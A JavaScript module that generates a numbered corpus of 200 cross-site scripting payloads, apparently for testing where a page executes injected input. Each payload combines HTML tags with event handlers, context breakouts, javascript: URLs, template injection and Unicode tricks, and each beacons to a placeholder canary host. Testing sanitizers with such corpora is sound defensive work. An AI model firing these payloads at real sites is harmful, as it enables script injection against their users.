// Texts that run where a page takes them for markup, a script or an address. Each says its number, so that the one that ran is known.
const tags = ['script', 'svg', 'img', 'iframe', 'object', 'embed', 'video', 'audio', 'details', 'body', 'input', 'form', 'math', 'template', 'style', 'link', 'base', 'meta', 'a', 'marquee'];
const run = n => `fetch('//canary.invalid/${n}');alert(${n})`;

const forms = [
  (tag, n) => `<${tag} onload="${run(n)}" onerror="${run(n)}" src=x>`,
  (tag, n) => `"><${tag} autofocus onfocus="${run(n)}" onpointerenter="${run(n)}">`,
  (tag, n) => `'><${tag.toUpperCase()}/src="x"/onerror=${run(n)}>`,
  (tag, n) => `</title></textarea></script><${tag} ontoggle="${run(n)}" open>`,
  (tag, n) => `<${tag} style="animation:arrive 1s" onanimationstart="${run(n)}">`,
  (tag, n) => `&lt;${tag} onerror=${run(n)}&gt;<${tag}\n onerror\n=\n"${run(n)}"\n src=x>`,
  (tag, n) => `<${tag} href="javascript:${run(n)}" xlink:href="javascript:${run(n)}" formaction="javascript:${run(n)}" srcdoc="<script>${run(n)}</script>">x`,
  (tag, n) => `{{constructor.constructor('${run(n)}')()}}\${${run(n)}}<${tag} is=x>`,
  (tag, n) => `[x](javascript:${run(n)})![x](//canary.invalid/${n})<${tag}>`,
  (tag, n) => `\u202e<${tag}\u0000 onerror=${run(n)}>\u2028${run(n)}//`,
];

/** 200 of them. */
export const corpus = tags.flatMap((tag, row) => forms.map((form, column) => form(tag, row * forms.length + column)));
